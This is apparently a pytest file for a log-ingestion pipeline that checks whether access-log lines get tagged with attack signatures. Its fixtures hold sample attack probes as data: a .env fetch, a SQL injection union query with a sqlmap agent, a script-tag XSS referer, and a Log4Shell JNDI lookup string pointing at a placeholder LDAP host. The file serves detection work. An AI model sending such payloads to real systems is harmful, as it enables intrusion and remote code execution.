"""The column in the lake."""

import json
from pathlib import Path

from pipeline.ingest import ingest_source
from pipeline.lake import Lake
from pipeline.settings import DEFAULT_POLICY, Settings


def ingested(tmp_path: Path, *lines: str) -> list[list[str]]:
    log = tmp_path / "access.log"
    log.write_text("".join(line + "\n" for line in lines), encoding="utf-8")
    lake = Lake(str(tmp_path / "lake"))
    outcome = ingest_source(str(log), lake, Settings(DEFAULT_POLICY))
    assert outcome.rows == len(lines)
    table = lake.table("requests")
    assert table is not None
    rows = table.to_pyarrow_table(columns=["source_offset", "signatures"]).sort_by("source_offset")
    return rows["signatures"].to_pylist()


def combined(request: str, referer: str = "-", agent: str = "Mozilla/5.0 (X11)") -> str:
    return f'203.0.113.5 - - [17/May/2015:10:05:03 +0000] "{request}" 200 5 "{referer}" "{agent}"'


def test_combined_lines(tmp_path: Path) -> None:
    rows = ingested(
        tmp_path,
        combined("GET / HTTP/1.1"),
        combined("GET /.env HTTP/1.1"),
        combined("GET /i?id=-1%20union%20select%201 HTTP/1.1", agent="sqlmap/1.7"),
        combined("GET / HTTP/1.1", referer="https://x.example/?q=<script>x"),
        combined("GET / HTTP/1.1", agent="${jndi:ldap://x/a}"),
        combined("CONNECT a.example:443 HTTP/1.1"),
        combined(r"\x16\x03\x01\x02"),
    )
    wanted = [
        (),
        ("sensitive-env",),
        ("sqli-union", "agent-exploit"),
        ("xss-script",),
        ("log4shell-jndi",),
        ("openproxy-connect",),
        ("protocol-tls",),
    ]
    assert rows[0] == []
    for ids, some in zip(rows, wanted, strict=True):
        assert set(some) <= set(ids)


def test_json_lines(tmp_path: Path) -> None:
    line = {
        "level": "info", "ts": 1693840791.75, "logger": "http.log.access", "msg": "handled request", "status": 404,
        "duration": 0.1, "size": 0,
        "request": {"remote_ip": "203.0.113.5", "proto": "HTTP/1.1", "method": "GET", "host": "a.example",
                    "uri": "/", "headers": {"X-Api-Version": ["${jndi:ldap://x/a}"]}},
    }  # fmt: skip
    [ids] = ingested(tmp_path, json.dumps(line))
    assert "log4shell-jndi" in ids
